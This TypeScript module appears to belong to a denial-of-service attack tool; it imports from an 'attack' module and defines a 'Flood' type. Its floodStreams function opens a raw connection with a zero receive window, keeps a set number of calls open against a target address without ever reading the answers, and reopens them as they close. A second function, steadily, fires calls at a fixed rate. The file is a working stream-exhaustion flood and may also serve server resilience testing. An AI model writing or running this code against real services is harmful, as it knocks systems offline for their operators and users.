import { setTimeout as delay } from 'node:timers/promises';
import { isUnderWay, type Run } from './attack.js';
import type { RawConnection } from './raw-connection.js';
import { reach } from './reach.js';

export interface Flood {
  readonly address: string;
  readonly method: { readonly path: string };
  readonly message: Uint8Array;
}

const BATCH = 100;
const PAUSE_MS = 20;
/** Pause before it tries again to reach its number of streams. */
const RETRY_MS = 500;

/** Keeps `count` calls open whose answers are never read, and opens them again as they end. */
export async function floodStreams(run: Run, { address, method, message }: Flood): Promise<void> {
  let connection: RawConnection | undefined;
  while (isUnderWay(run)) {
    if (!connection?.isOpen) connection = await reach(run, address, { window: 0 });
    for (let opened = 0; connection?.isOpen && opened < run.count && isUnderWay(run); opened += BATCH) {
      const missing = Math.min(BATCH, run.count - connection.calls.size);
      for (let at = 0; at < missing; at++) connection.call(method.path).send(message).end();
      await delay(PAUSE_MS);
    }
    run.tally.inFullSwing = true;
    await delay(RETRY_MS);
  }
  connection?.close();
}

/**
 * Calls `act` at an even rate until the run ends.
 *
 * @param perSecond calls per second; if they cannot be made in time, fewer
 */
export async function steadily(
  run: Run,
  perSecond: number,
  act: (number: number) => void | Promise<void>,
): Promise<void> {
  const startedMs = performance.now();
  for (let done = 0; isUnderWay(run);) {
    const due = Math.floor(((performance.now() - startedMs) * perSecond) / 1000);
    const most = Math.min(due, done + perSecond / 10);
    for (; done < most && isUnderWay(run); done++) await act(done);
    // What a busy moment missed is not made up for.
    done = Math.max(done, due - perSecond);
    await delay(5);
  }
}
